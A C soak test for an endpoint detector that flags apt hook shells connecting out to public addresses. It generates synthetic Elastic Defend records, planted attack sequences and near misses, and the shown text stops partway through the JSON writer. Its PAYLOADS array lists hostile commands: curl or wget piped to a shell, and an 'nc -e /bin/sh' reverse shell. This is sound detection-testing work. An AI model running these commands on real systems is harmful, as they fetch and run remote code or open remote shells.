/*
 * Soak of the apt_netcon C ABI: a long stream of generated Elastic
 * Defend-like records through one detector with the default config.
 *
 *   apt_netcon_soak [RECORDS] [--hosts=H] [--seed=S] [--sample-every=K]
 *                   [--heap-slack-kib=X] [--rss-slack-kib=Y] [--json-only]
 *                   [--verbose] [--dump=FILE]
 *
 * RECORDS (default 1,000,000) records over H hosts (default 1,000), in time
 * order, are generated deterministically from S: process execs of ordinary
 * programs, network events to public and private addresses, DNS and file
 * events, benign APT hook shells that do not connect out, and near misses
 * of every kind the rule must not alert on (a connection 5001 ms after the
 * shell, a private or unspecified destination, a parent that is not `apt`,
 * no `-c`, the connection on another host, `apt-listbugs`, a connection
 * before its shell, the wrong action or type). About one scenario in a
 * thousand is a planted sequence: `apt` runs a shell with `-c`, and a child
 * of that shell connects to a public address 1 to 5000 ms later on the same
 * host. Every record carries its scenario in `event.id`
 * (`plant-<n>-net` for a planted connection).
 *
 * Pass 1 feeds every record to aptnc_filter, one per call; pass 2 (skipped
 * with --json-only) feeds the same stream to a new detector as Fluent Bit
 * chunks of one record each through aptnc_filter_msgpack. Each pass checks:
 *
 *   - records out == records in: every call yields exactly one record (the
 *     input or the annotated bytes), plus any standalone alert record the
 *     detector hands out (count_standalone(); the periodic aptnc_flush()
 *     report carries them, and with the default config there are none);
 *   - every annotated record is a planted connection, paired with its own
 *     shell, and keeps the input's members; every planted one is annotated;
 *   - aptnc_get_stats(): records == RECORDS, annotated and
 *     sequences_completed == planted, stage matches == those generated, no
 *     error counter moved, nothing evicted;
 *   - memory is flat: heap in use (mallinfo2, or the AddressSanitizer
 *     allocator when built with it) and, without a sanitizer, VmRSS are
 *     sampled every K records (default 100,000) after a warm-up of
 *     max(K, RECORDS / 10) records, and may not grow over the first sample
 *     by more than the slack (X, default 1024 KiB; Y, default 4096 KiB).
 *
 * --verbose prints every memory sample; --dump=FILE also writes the
 * generated records to FILE as NDJSON (for the CLI, say). Prints the
 * counters and a summary line per pass; exit status 0 when every check
 * holds.
 */
#define _GNU_SOURCE
#include <apt_netcon.h>

#include <inttypes.h>
#include <malloc.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

/* Defined by the AddressSanitizer runtime when the program is built with
 * it: heap bytes in use, not counting ASan's quarantine of freed blocks. */
extern size_t __sanitizer_get_current_allocated_bytes(void) __attribute__((weak));

/* ------------------------------------------------------------------------ */
/* Options and results. */

typedef struct {
    uint64_t records;
    uint32_t hosts;
    uint64_t seed;
    uint64_t sample_every;
    uint64_t heap_slack;
    uint64_t rss_slack;
    int json_only;
    int verbose;      /* print every memory sample */
    const char *dump; /* write the generated records here as NDJSON */
} options;

static int failures;

static void fail(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    fputs("soak: FAILED: ", stderr);
    vfprintf(stderr, fmt, ap);
    fputc('\n', stderr);
    va_end(ap);
    failures++;
}

/* ------------------------------------------------------------------------ */
/* Deterministic randomness (splitmix64). */

typedef struct {
    uint64_t s;
} rng;

static uint64_t rnd(rng *r) {
    uint64_t z = (r->s += 0x9e3779b97f4a7c15ULL);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

/* Uniform in [0, n). */
static uint32_t below(rng *r, uint32_t n) { return (uint32_t)(((rnd(r) >> 32) * n) >> 32); }

/* Uniform in [lo, hi]. */
static int64_t between(rng *r, int64_t lo, int64_t hi) { return lo + below(r, (uint32_t)(hi - lo + 1)); }

#define PICK(r, arr) ((arr)[below((r), sizeof(arr) / sizeof *(arr))])

/* ------------------------------------------------------------------------ */
/* Events. One generated record, before it is written as JSON. */

enum kind { K_EXEC, K_FILE, K_NET, K_DNS };

/* The scenario a record belongs to (its event.id says which). */
enum role {
    R_BG,        /* background */
    R_PLANT,     /* planted sequence: must alert, once */
    R_HOOK,      /* benign apt hook shell, children do not connect out */
    R_GAP,       /* connection 5001 ms after the shell */
    R_PRIVATE,   /* connection to a private / unspecified address */
    R_PARENT,    /* shell's parent is not exactly "apt" */
    R_NOC,       /* no "-c", or not a shell */
    R_OTHERHOST, /* connection on another host */
    R_LISTBUGS,  /* apt-listbugs, excluded by the rule */
    R_ORDER,     /* connection before its shell */
    R_ACTION,    /* wrong event.action or event.type */
    R_COUNT
};
static const char *const ROLE_NAME[R_COUNT] = {"bg",       "plant",     "hook",     "gap5001",
                                               "private",  "parent",    "noc",      "otherhost",
                                               "listbugs", "order",     "action"};

typedef struct {
    int64_t t;      /* @timestamp, epoch ms */
    uint64_t order; /* tie-break among scheduled events: creation order */
    uint8_t kind, role, part;
    uint8_t s1, s2;      /* expected to match stage 1 / stage 2 */
    uint8_t planted_net; /* the connection that completes a planted sequence */
    uint32_t host;
    uint64_t scen; /* scenario number (plant number for R_PLANT) */
    uint32_t pid, ppid;
    char ent_c, pent_c; /* entity id classes: 'b' background, 's' shell, 'a' apt, 'c' child */
    uint64_t ent, pent;
    const char *name, *exe, *pname, *pexe;
    const char *args[4];
    uint8_t nargs;
    const char *action, *etype;
    char ip[48]; /* destination.ip; empty: none */
    uint16_t port;
    const char *path; /* file path, or DNS question name */
} ev;

/* ------------------------------------------------------------------------ */
/* The scheduler: follow-up events of a scenario wait in a min-heap by time. */

#define HEAP_CAP 4096

typedef struct {
    ev *a;
    size_t n;
} heap;

static int ev_before(const ev *x, const ev *y) { return x->t < y->t || (x->t == y->t && x->order < y->order); }

static void heap_push(heap *h, const ev *e) {
    size_t i = h->n++;
    h->a[i] = *e;
    while (i > 0) {
        size_t p = (i - 1) / 2;
        if (!ev_before(&h->a[i], &h->a[p])) break;
        ev tmp = h->a[i];
        h->a[i] = h->a[p];
        h->a[p] = tmp;
        i = p;
    }
}

static ev heap_pop(heap *h) {
    ev top = h->a[0];
    h->a[0] = h->a[--h->n];
    size_t i = 0;
    for (;;) {
        size_t l = 2 * i + 1, r = l + 1, m = i;
        if (l < h->n && ev_before(&h->a[l], &h->a[m])) m = l;
        if (r < h->n && ev_before(&h->a[r], &h->a[m])) m = r;
        if (m == i) break;
        ev tmp = h->a[i];
        h->a[i] = h->a[m];
        h->a[m] = tmp;
        i = m;
    }
    return top;
}

/* ------------------------------------------------------------------------ */
/* The generator. */

typedef struct {
    char id[33], name[24], agent[40], ip[16];
} host_info;

typedef struct {
    rng r;
    const options *opt;
    host_info *hosts;
    heap h;
    int64_t now;
    uint64_t emitted, created, next_ent;
    uint64_t scen[R_COUNT];
    /* What was generated, for the checks. */
    uint64_t planted, s1, s2;
} gen;

static const char *const SHELLS[] = {"bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish"};
static const char *const SHELL_EXES[] = {"/usr/bin/bash", "/usr/bin/dash", "/usr/bin/sh",  "/usr/bin/tcsh",
                                         "/usr/bin/csh",  "/usr/bin/zsh",  "/usr/bin/ksh", "/usr/bin/fish"};

static const char *const PAYLOADS[] = {
    "curl -s http://45.33.32.156/u.sh | sh",
    "wget -qO- http://185.199.108.153/x | bash",
    "nc -e /bin/sh 5.188.10.3 4444",
    "python3 /var/tmp/.cache.py 91.92.241.10 443",
    "curl -fsSL https://91.92.241.10/s -o /tmp/.s && sh /tmp/.s",
};
static const char *const CALLERS[][2] = {
    {"curl", "/usr/bin/curl"}, {"wget", "/usr/bin/wget"},       {"nc", "/usr/bin/nc"},
    {"python3", "/usr/bin/python3.11"}, {"bash", "/usr/bin/bash"}, {"perl", "/usr/bin/perl"},
};
static const char *const HOOKS[] = {
    "if /usr/bin/test -w /var/cache/apt/archives/ -a -d /var/cache/apt/archives/; then /usr/bin/find "
    "/var/cache/apt/archives/ -maxdepth 1 -type f -name '*.deb' -delete; fi",
    "/usr/lib/cnf-update-db > /dev/null || true",
    "test -x /usr/lib/update-notifier/update-motd-updates-available && "
    "/usr/lib/update-notifier/update-motd-updates-available || true",
    "[ ! -x /usr/bin/debsig-verify ] || /usr/bin/debsig-verify --version > /dev/null",
    "if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi",
};
static const char *const HOOK_CHILDREN[][2] = {
    {"find", "/usr/bin/find"},
    {"touch", "/usr/bin/touch"},
    {"cnf-update-db", "/usr/lib/cnf-update-db"},
    {"update-motd-updates-available", "/usr/lib/update-notifier/update-motd-updates-available"},
    {"debsig-verify", "/usr/bin/debsig-verify"},
    {"test", "/usr/bin/test"},
};
static const char *const WRONG_PARENTS[][2] = {
    {"apt-get", "/usr/bin/apt-get"}, {"APT", "/usr/bin/APT"},           {"aptitude", "/usr/bin/aptitude"},
    {"dpkg", "/usr/bin/dpkg"},
    {"unattended-upgr", "/usr/bin/python3.11"},
    {"apt.systemd.dai", "/usr/lib/apt/apt.systemd.daily"},
};
/* Ordinary programs: name, executable, parent name, parent executable, args (up to 3). */
static const char *const PROGRAMS[][7] = {
    {"ls", "/usr/bin/ls", "bash", "/usr/bin/bash", "ls", "-la", "/etc/apt"},
    {"cat", "/usr/bin/cat", "bash", "/usr/bin/bash", "cat", "/etc/os-release", NULL},
    {"grep", "/usr/bin/grep", "bash", "/usr/bin/bash", "grep", "-r", "deb "},
    {"systemctl", "/usr/bin/systemctl", "bash", "/usr/bin/bash", "systemctl", "status", "nginx"},
    {"python3", "/usr/bin/python3.11", "cron", "/usr/sbin/cron", "python3", "/opt/app/job.py", NULL},
    {"sh", "/usr/bin/sh", "cron", "/usr/sbin/cron", "sh", "-c", "run-parts --report /etc/cron.hourly"},
    {"bash", "/usr/bin/bash", "sshd", "/usr/sbin/sshd", "bash", "-c", "uptime"},
    {"apt", "/usr/bin/apt", "bash", "/usr/bin/bash", "apt", "update", NULL},
    {"dpkg", "/usr/bin/dpkg", "apt", "/usr/bin/apt", "dpkg", "--configure", "-a"},
    {"http", "/usr/lib/apt/methods/http", "apt", "/usr/bin/apt", "/usr/lib/apt/methods/http", NULL, NULL},
    {"gzip", "/usr/bin/gzip", "logrotate", "/usr/sbin/logrotate", "gzip", "-9", "/var/log/syslog.1"},
    {"logrotate", "/usr/sbin/logrotate", "systemd", "/usr/lib/systemd/systemd", "logrotate",
     "/etc/logrotate.conf", NULL},
    {"sh", "/usr/bin/sh", "apt", "/usr/bin/apt", "sh", "/usr/share/debconf/confmodule", NULL},
    {"nginx", "/usr/sbin/nginx", "systemd", "/usr/lib/systemd/systemd", "nginx", "-g", "daemon on;"},
};
/* Processes that make network connections: name, executable. */
static const char *const NET_PROGRAMS[][2] = {
    {"http", "/usr/lib/apt/methods/http"}, {"curl", "/usr/bin/curl"},         {"sshd", "/usr/sbin/sshd"},
    {"chronyd", "/usr/sbin/chronyd"},      {"python3", "/usr/bin/python3.11"}, {"nginx", "/usr/sbin/nginx"},
    {"apt-listbugs", "/usr/bin/apt-listbugs"},
};
static const char *const FILES[] = {"/var/log/syslog",    "/var/cache/apt/pkgcache.bin", "/etc/hosts",
                                    "/tmp/tmp.x1y2z3",    "/var/lib/dpkg/status",        "/home/deploy/.bash_history",
                                    "/var/log/nginx/access.log"};
static const char *const DNS_NAMES[] = {"deb.debian.org", "security.debian.org", "api.github.com", "pool.ntp.org",
                                        "repo.internal.example"};
static const char *const PRIVATE_IPS[] = {
    "10.20.0.5",   "192.168.1.20", "172.16.4.1",  "172.31.255.9", "127.0.0.53", "169.254.169.254",
    "100.64.3.3",  "0.0.0.0",      "::1",         "fe80::1",      "ff02::fb",   "224.0.0.251",
    "198.18.0.1",  "203.0.113.7",  "::ffff:10.1.2.3",
};
/* First octets of public IPv4 space used here (none in a range the rule excludes). */
static const uint8_t PUBLIC_A[] = {5,  23, 31, 34, 35,  45,  52,  54,  62,  77, 81,
                                   88, 91, 93, 104, 130, 142, 151, 185, 212, 216};

static void public_ip(rng *r, char *out, size_t n) {
    if (below(r, 10) == 0)
        snprintf(out, n, "2a01:4f8:%x:%x::%x", below(r, 0x10000), below(r, 0x10000), 1 + below(r, 0xfffe));
    else
        snprintf(out, n, "%u.%u.%u.%u", PICK(r, PUBLIC_A), below(r, 256), below(r, 256), 1 + below(r, 254));
}

static ev *base(gen *g, ev *e, uint8_t kind, uint8_t role, uint8_t part, uint32_t host, int64_t t) {
    memset(e, 0, sizeof *e);
    e->kind = kind;
    e->role = role;
    e->part = part;
    e->host = host;
    e->t = t;
    e->order = g->created++;
    e->scen = g->scen[role];
    e->pid = 1000 + below(&g->r, 60000);
    e->ppid = 1000 + below(&g->r, 60000);
    return e;
}

/* A shell exec'd by `pname` with `-c` (or, with c == 0, without it). */
static void shell(gen *g, ev *e, uint8_t role, uint32_t host, int64_t t, uint64_t ent, const char *name,
                  const char *pname, const char *pexe, const char *cmd, int c) {
    base(g, e, K_EXEC, role, 0, host, t);
    int is_shell = 0;
    e->name = name;
    e->exe = "/usr/bin/python3.11";
    for (size_t i = 0; i < sizeof SHELLS / sizeof *SHELLS; i++)
        if (strcmp(name, SHELLS[i]) == 0) e->exe = SHELL_EXES[i], is_shell = 1;
    e->pname = pname;
    e->pexe = pexe;
    e->ent_c = 's';
    e->ent = ent;
    e->pent_c = 'a';
    e->pent = g->next_ent++;
    e->args[0] = name;
    e->args[1] = c ? "-c" : "/etc/apt/apt.conf.d/hook.sh";
    e->args[2] = c ? cmd : NULL;
    e->nargs = c ? 3 : 2;
    e->s1 = c && is_shell && strcmp(pname, "apt") == 0;
}

/* A child of the shell `shell_ent` connecting to `ip`. */
static void child_net(gen *g, ev *e, uint8_t role, uint8_t part, uint32_t host, int64_t t, uint64_t shell_ent,
                      const char *name, const char *exe, const char *ip, const char *action, const char *type) {
    base(g, e, K_NET, role, part, host, t);
    e->name = name;
    e->exe = exe;
    e->ent_c = 'c';
    e->ent = g->next_ent++;
    e->pent_c = 's';
    e->pent = shell_ent;
    snprintf(e->ip, sizeof e->ip, "%s", ip);
    e->port = 443;
    e->action = action;
    e->etype = type;
}

static void child_exec(gen *g, ev *e, uint8_t role, uint8_t part, uint32_t host, int64_t t, uint64_t shell_ent,
                       const char *shell_name, const char *name, const char *exe) {
    base(g, e, K_EXEC, role, part, host, t);
    e->name = name;
    e->exe = exe;
    e->ent_c = 'c';
    e->ent = g->next_ent++;
    e->pent_c = 's';
    e->pent = shell_ent;
    e->pname = shell_name;
    e->pexe = "/usr/bin/sh";
    e->args[0] = name;
    e->nargs = 1;
}

/* Is this public (not excluded by the rule's second stage)? Only for
 * addresses this generator writes. */
static int is_public(const char *ip) {
    for (size_t i = 0; i < sizeof PRIVATE_IPS / sizeof *PRIVATE_IPS; i++)
        if (strcmp(ip, PRIVATE_IPS[i]) == 0) return 0;
    return ip[0] != '\0';
}

static void classify_net(ev *e) {
    e->s2 = e->kind == K_NET && strcmp(e->action, "connection_attempted") == 0 && strcmp(e->etype, "start") == 0 &&
            is_public(e->ip) && strcmp(e->exe, "/usr/bin/apt-listbugs") != 0;
}

/* Background: one record, nothing scheduled. */
static void background(gen *g, ev *e, uint32_t host) {
    uint32_t r = below(&g->r, 100);
    if (r < 40) {
        const char *const *p = PROGRAMS[below(&g->r, sizeof PROGRAMS / sizeof *PROGRAMS)];
        base(g, e, K_EXEC, R_BG, 0, host, g->now);
        e->name = p[0];
        e->exe = p[1];
        e->pname = p[2];
        e->pexe = p[3];
        for (int i = 0; i < 3 && p[4 + i]; i++) e->args[e->nargs++] = p[4 + i];
        e->ent_c = 'b';
        e->ent = g->next_ent++;
        e->pent_c = 'b';
        e->pent = g->next_ent++;
    } else if (r < 70) {
        static const char *const ACT[][2] = {{"creation", "creation"}, {"modification", "change"},
                                             {"deletion", "deletion"}, {"rename", "change"}};
        uint32_t a = below(&g->r, 4);
        base(g, e, K_FILE, R_BG, 0, host, g->now);
        e->action = ACT[a][0];
        e->etype = ACT[a][1];
        e->path = PICK(&g->r, FILES);
        e->name = "rsyslogd";
        e->exe = "/usr/sbin/rsyslogd";
        e->ent_c = 'b';
        e->ent = g->next_ent++;
    } else if (r < 92) {
        static const char *const ACT[][2] = {{"connection_attempted", "start"}, {"connection_attempted", "start"},
                                             {"connection_accepted", "start"},  {"disconnect_received", "end"}};
        uint32_t a = below(&g->r, 4);
        const char *const *p = NET_PROGRAMS[below(&g->r, sizeof NET_PROGRAMS / sizeof *NET_PROGRAMS)];
        base(g, e, K_NET, R_BG, 0, host, g->now);
        e->action = ACT[a][0];
        e->etype = ACT[a][1];
        e->name = p[0];
        e->exe = p[1];
        e->ent_c = 'b';
        e->ent = g->next_ent++;
        e->pent_c = 'b';
        e->pent = g->next_ent++;
        if (below(&g->r, 10) < 6)
            public_ip(&g->r, e->ip, sizeof e->ip);
        else
            snprintf(e->ip, sizeof e->ip, "%s", PICK(&g->r, PRIVATE_IPS));
        e->port = (uint16_t)PICK(&g->r, ((const uint16_t[]){80, 443, 22, 123, 3142}));
        classify_net(e);
    } else {
        base(g, e, K_DNS, R_BG, 0, host, g->now);
        e->name = "systemd-resolved";
        e->exe = "/usr/lib/systemd/systemd-resolved";
        e->ent_c = 'b';
        e->ent = g->next_ent++;
        e->path = PICK(&g->r, DNS_NAMES);
    }
}

/* Start a scenario: write its first record into `e` and schedule the rest.
 * Returns how many records it schedules (0 for background). */
static int scenario(gen *g, ev *e, uint64_t room) {
    uint32_t host = below(&g->r, g->opt->hosts);
    uint32_t r = below(&g->r, 100000);
    int64_t t = g->now;
    ev f;
    /* The scenario's share of 100,000 fresh records, and its follow-ups (at most). */
    int role = r < 100     ? R_PLANT
               : r < 1100  ? R_HOOK
               : r < 1150  ? R_GAP
               : r < 1200  ? R_PRIVATE
               : r < 1250  ? R_PARENT
               : r < 1300  ? R_NOC
               : r < 1350  ? R_OTHERHOST
               : r < 1400  ? R_LISTBUGS
               : r < 1450  ? R_ORDER
               : r < 1500  ? R_ACTION
                           : R_BG;
    if (role != R_BG && (room < 4 || g->h.n + 4 > HEAP_CAP)) role = R_BG;
    if (role == R_BG) {
        background(g, e, host);
        return 0;
    }
    uint64_t shell_ent = g->next_ent++;
    const char *sh = PICK(&g->r, SHELLS);
    const char *const *caller = CALLERS[below(&g->r, sizeof CALLERS / sizeof *CALLERS)];
    char ip[48];
    public_ip(&g->r, ip, sizeof ip);
    int n = 0;
    switch (role) {
    case R_PLANT: {
        int64_t d = below(&g->r, 20) == 0 ? 5000 : between(&g->r, 1, 5000);
        shell(g, e, role, host, t, shell_ent, sh, "apt", "/usr/bin/apt", PICK(&g->r, PAYLOADS), 1);
        if (d >= 2 && below(&g->r, 2)) {
            child_exec(g, &f, role, 1, host, t + between(&g->r, 1, d - 1), shell_ent, sh, caller[0], caller[1]);
            heap_push(&g->h, &f), n++;
        }
        child_net(g, &f, role, 2, host, t + d, shell_ent, caller[0], caller[1], ip, "connection_attempted", "start");
        classify_net(&f);
        f.planted_net = 1;
        heap_push(&g->h, &f), n++;
        if (below(&g->r, 5) == 0) { /* a second child connects: the shell was consumed, no second alert */
            public_ip(&g->r, ip, sizeof ip);
            child_net(g, &f, role, 3, host, t + between(&g->r, d, 5000), shell_ent, "wget", "/usr/bin/wget", ip,
                      "connection_attempted", "start");
            classify_net(&f);
            heap_push(&g->h, &f), n++;
        }
        break;
    }
    case R_HOOK: {
        shell(g, e, role, host, t, shell_ent, below(&g->r, 4) ? "sh" : "dash", "apt", "/usr/bin/apt",
              PICK(&g->r, HOOKS), 1);
        int kids = (int)below(&g->r, 3);
        for (int i = 0; i < kids; i++) {
            const char *const *k = HOOK_CHILDREN[below(&g->r, sizeof HOOK_CHILDREN / sizeof *HOOK_CHILDREN)];
            child_exec(g, &f, role, (uint8_t)(1 + i), host, t + between(&g->r, 1, 3000), shell_ent, e->name, k[0],
                       k[1]);
            heap_push(&g->h, &f), n++;
        }
        if (below(&g->r, 10) < 3) { /* to the local package proxy */
            child_net(g, &f, role, 4, host, t + between(&g->r, 1, 5000), shell_ent, "http",
                      "/usr/lib/apt/methods/http", PICK(&g->r, ((const char *const[]){"10.20.0.5", "192.168.1.20"})),
                      "connection_attempted", "start");
            classify_net(&f);
            heap_push(&g->h, &f), n++;
        }
        break;
    }
    case R_GAP:
    case R_PRIVATE:
    case R_LISTBUGS:
    case R_ACTION: {
        int64_t d = role == R_GAP ? 5001 : between(&g->r, 1, 5000);
        const char *cmd = role == R_LISTBUGS ? "/usr/bin/apt-listbugs apt" : PICK(&g->r, PAYLOADS);
        shell(g, e, role, host, t, shell_ent, sh, "apt", "/usr/bin/apt", cmd, 1);
        const char *name = role == R_LISTBUGS ? "apt-listbugs" : caller[0];
        const char *exe = role == R_LISTBUGS ? "/usr/bin/apt-listbugs" : caller[1];
        const char *dst = role == R_PRIVATE ? PICK(&g->r, PRIVATE_IPS) : ip;
        static const char *const WRONG[][2] = {
            {"connection_accepted", "start"}, {"connection_attempted", "end"}, {"disconnect_received", "end"}};
        static const char *const RIGHT[2] = {"connection_attempted", "start"};
        const char *const *act = role == R_ACTION ? WRONG[below(&g->r, 3)] : RIGHT;
        child_net(g, &f, role, 2, host, t + d, shell_ent, name, exe, dst, act[0], act[1]);
        classify_net(&f);
        heap_push(&g->h, &f), n++;
        break;
    }
    case R_PARENT:
    case R_NOC: {
        if (role == R_PARENT) {
            const char *const *p = WRONG_PARENTS[below(&g->r, sizeof WRONG_PARENTS / sizeof *WRONG_PARENTS)];
            shell(g, e, role, host, t, shell_ent, sh, p[0], p[1], PICK(&g->r, PAYLOADS), 1);
        } else if (below(&g->r, 2)) {
            shell(g, e, role, host, t, shell_ent, sh, "apt", "/usr/bin/apt", NULL, 0);
        } else {
            shell(g, e, role, host, t, shell_ent, "python3", "apt", "/usr/bin/apt", "import os", 1);
        }
        child_net(g, &f, role, 2, host, t + between(&g->r, 1, 5000), shell_ent, caller[0], caller[1], ip,
                  "connection_attempted", "start");
        classify_net(&f);
        heap_push(&g->h, &f), n++;
        break;
    }
    case R_OTHERHOST: {
        shell(g, e, role, host, t, shell_ent, sh, "apt", "/usr/bin/apt", PICK(&g->r, PAYLOADS), 1);
        uint32_t other = g->opt->hosts > 1 ? (host + 1 + below(&g->r, g->opt->hosts - 1)) % g->opt->hosts : host;
        child_net(g, &f, role, 2, other, t + between(&g->r, 1, 5000), shell_ent, caller[0], caller[1], ip,
                  "connection_attempted", "start");
        if (other == host) f.ent_c = 'x', f.pent_c = 'x'; /* one host only: break the link another way */
        classify_net(&f);
        heap_push(&g->h, &f), n++;
        break;
    }
    case R_ORDER: {
        child_net(g, e, role, 2, host, t, shell_ent, caller[0], caller[1], ip, "connection_attempted", "start");
        classify_net(e);
        shell(g, &f, role, host, t + between(&g->r, 1, 1000), shell_ent, sh, "apt", "/usr/bin/apt",
              PICK(&g->r, PAYLOADS), 1);
        heap_push(&g->h, &f), n++;
        break;
    }
    }
    g->scen[role]++;
    return n;
}

/* The next record of the stream, in time order. */
static void next_event(gen *g, ev *e) {
    uint64_t remaining = g->opt->records - g->emitted; /* including this one */
    int64_t t_next = g->now + below(&g->r, 3);          /* 0 to 2 ms later: about 1,000 records/s */
    if (g->h.n > 0 && (g->h.a[0].t <= t_next || remaining <= g->h.n)) {
        *e = heap_pop(&g->h);
        if (e->t > g->now) g->now = e->t;
    } else {
        g->now = t_next;
        scenario(g, e, remaining - 1 - g->h.n);
    }
    g->emitted++;
    if (e->role == R_PLANT && e->planted_net) g->planted++;
    g->s1 += e->s1;
    g->s2 += e->s2;
}

static void gen_init(gen *g, const options *opt) {
    memset(g, 0, sizeof *g);
    g->opt = opt;
    g->r.s = opt->seed;
    g->h.a = malloc(HEAP_CAP * sizeof *g->h.a);
    g->hosts = calloc(opt->hosts, sizeof *g->hosts);
    if (!g->h.a || !g->hosts) abort();
    for (uint32_t i = 0; i < opt->hosts; i++) {
        host_info *h = &g->hosts[i];
        snprintf(h->id, sizeof h->id, "%016" PRIx64 "%016" PRIx64, rnd(&g->r), rnd(&g->r));
        snprintf(h->name, sizeof h->name, "soak-host-%04u", i);
        uint64_t a = rnd(&g->r), b = rnd(&g->r);
        snprintf(h->agent, sizeof h->agent, "%08" PRIx64 "-%04" PRIx64 "-4%03" PRIx64 "-a%03" PRIx64 "-%012" PRIx64,
                 a >> 32, (a >> 16) & 0xffff, a & 0xfff, (b >> 48) & 0xfff, (uint64_t)(b & 0xffffffffffffULL));
        snprintf(h->ip, sizeof h->ip, "10.%u.%u.%u", (i >> 16) & 255, (i >> 8) & 255, (i & 255) + 0u);
    }
    /* 2026-03-14T00:00:00Z */
    struct tm tm = {.tm_year = 126, .tm_mon = 2, .tm_mday = 14};
    g->now = (int64_t)timegm(&tm) * 1000;
    g->next_ent = 1;
}

static void gen_free(gen *g) {
    free(g->h.a);
    free(g->hosts);
}

/* ------------------------------------------------------------------------ */
/* Writing a record as JSON (the shape Elastic Defend writes). */

#define REC_CAP 8192

typedef struct {
    char p[REC_CAP];
    size_t len;
} text;

static void w(text *b, const char *s) {
    size_t n = strlen(s);
    if (b->len + n >= REC_CAP) abort();
    memcpy(b->p + b->len, s, n);
    b->len += n;
}

/* A JSON string; the generator writes no character that needs escaping. */
static void q(text *b, const char *s) {
    if (strpbrk(s, "\"\\")) abort();
    w(b, "\"");
    w(b, s);
    w(b, "\"");
}

static void u(text *b, uint64_t v) {
    char tmp[24];
    snprintf(tmp, sizeof tmp, "%" PRIu64, v);
    w(b, tmp);
}

static void ts(text *b, int64_t ms) {
    static int64_t cached_sec = INT64_MIN;
    static char cached[24];
    int64_t sec = ms / 1000;
    if (sec != cached_sec) {
        time_t tt = (time_t)sec;
        struct tm tm;
        gmtime_r(&tt, &tm);
        strftime(cached, sizeof cached, "%Y-%m-%dT%H:%M:%S", &tm);
        cached_sec = sec;
    }
    char tmp[48];
    snprintf(tmp, sizeof tmp, "\"%s.%03u0000Z\"", cached, (unsigned)(ms % 1000));
    w(b, tmp);
}

static void ent_id(text *b, char c, uint64_t n, const host_info *h) {
    char tmp[64];
    snprintf(tmp, sizeof tmp, "\"%.8s-%c%" PRIu64 "\"", h->id, c, n);
    w(b, tmp);
}

/* `"pid":…,"name":…,"executable":…,"entity_id":…` of a process. */
static void proc_ids(text *b, uint64_t pid, const char *name, const char *exe, char ent_c, uint64_t ent,
                     const host_info *h) {
    w(b, "\"pid\":");
    u(b, pid);
    w(b, ",\"name\":");
    q(b, name);
    w(b, ",\"executable\":");
    q(b, exe);
    w(b, ",\"entity_id\":");
    ent_id(b, ent_c, ent, h);
}

static void render(const gen *g, const ev *e, uint64_t seq, text *b) {
    static const char *const DATASET[] = {"process", "file", "network", "network"};
    const host_info *h = &g->hosts[e->host];
    b->len = 0;
    w(b, "{\"agent\":{\"id\":");
    q(b, h->agent);
    w(b, ",\"type\":\"endpoint\",\"version\":\"8.15.0\"},\"data_stream\":{\"dataset\":\"endpoint.events.");
    w(b, DATASET[e->kind]);
    w(b, "\",\"namespace\":\"default\",\"type\":\"logs\"},\"ecs\":{\"version\":\"8.10.0\"},\"host\":{\"hostname\":");
    q(b, h->name);
    w(b, ",\"name\":");
    q(b, h->name);
    w(b, ",\"id\":");
    q(b, h->id);
    w(b, ",\"architecture\":\"x86_64\",\"os\":{\"type\":\"linux\",\"family\":\"debian\",\"name\":\"Debian\","
         "\"version\":\"12\",\"kernel\":\"6.1.0-18-amd64\",\"platform\":\"debian\"},\"ip\":[");
    q(b, h->ip);
    w(b, "]},\"event\":{\"agent_id_status\":\"verified\",\"category\":[\"");
    w(b, e->kind == K_EXEC ? "process" : e->kind == K_FILE ? "file" : "network");
    w(b, "\"],\"kind\":\"event\",\"module\":\"endpoint\",\"dataset\":\"endpoint.events.");
    w(b, DATASET[e->kind]);
    w(b, "\",\"sequence\":");
    u(b, seq);
    w(b, ",\"action\":");
    q(b, e->kind == K_EXEC ? "exec" : e->kind == K_DNS ? "lookup_requested" : e->action);
    w(b, ",\"type\":");
    w(b, e->kind == K_EXEC  ? "[\"start\"]"
         : e->kind == K_DNS ? "[\"protocol\",\"info\"]"
                            : "");
    if (e->kind == K_FILE || e->kind == K_NET) {
        w(b, "[");
        q(b, e->etype);
        w(b, "]");
    }
    char id[64];
    if (e->role == R_BG)
        snprintf(id, sizeof id, "bg-%" PRIu64, seq);
    else
        snprintf(id, sizeof id, "%s-%" PRIu64 "-%s", ROLE_NAME[e->role], e->scen,
                 e->part == 0   ? "sh"
                 : e->part == 2 ? "net"
                 : e->part == 3 ? "net2"
                 : e->kind == K_NET ? "proxy"
                                    : "kid");
    if (e->kind == K_EXEC && e->part != 0) {
        char tmp[16];
        snprintf(tmp, sizeof tmp, "%u", e->part);
        strcat(id, tmp);
    }
    w(b, ",\"id\":");
    q(b, id);
    w(b, "},\"user\":{\"id\":\"0\",\"name\":\"root\"},\"@timestamp\":");
    ts(b, e->t);
    switch (e->kind) {
    case K_EXEC: {
        w(b, ",\"process\":{\"pid\":");
        u(b, e->pid);
        w(b, ",\"name\":");
        q(b, e->name);
        w(b, ",\"executable\":");
        q(b, e->exe);
        w(b, ",\"args\":[");
        char cmdline[1024] = "";
        for (int i = 0; i < e->nargs; i++) {
            if (i) w(b, ","), strcat(cmdline, " ");
            q(b, e->args[i]);
            strncat(cmdline, e->args[i], sizeof cmdline - strlen(cmdline) - 1);
        }
        w(b, "],\"args_count\":");
        u(b, e->nargs);
        w(b, ",\"command_line\":");
        q(b, cmdline);
        w(b, ",\"entity_id\":");
        ent_id(b, e->ent_c, e->ent, h);
        w(b, ",\"working_directory\":\"/\",\"start\":");
        ts(b, e->t);
        w(b, ",\"parent\":{");
        proc_ids(b, e->ppid, e->pname, e->pexe, e->pent_c, e->pent, h);
        w(b, "}}}");
        break;
    }
    case K_FILE: {
        const char *slash = strrchr(e->path, '/');
        const char *dot = strrchr(slash, '.');
        w(b, ",\"file\":{\"path\":");
        q(b, e->path);
        w(b, ",\"name\":");
        q(b, slash + 1);
        if (dot) {
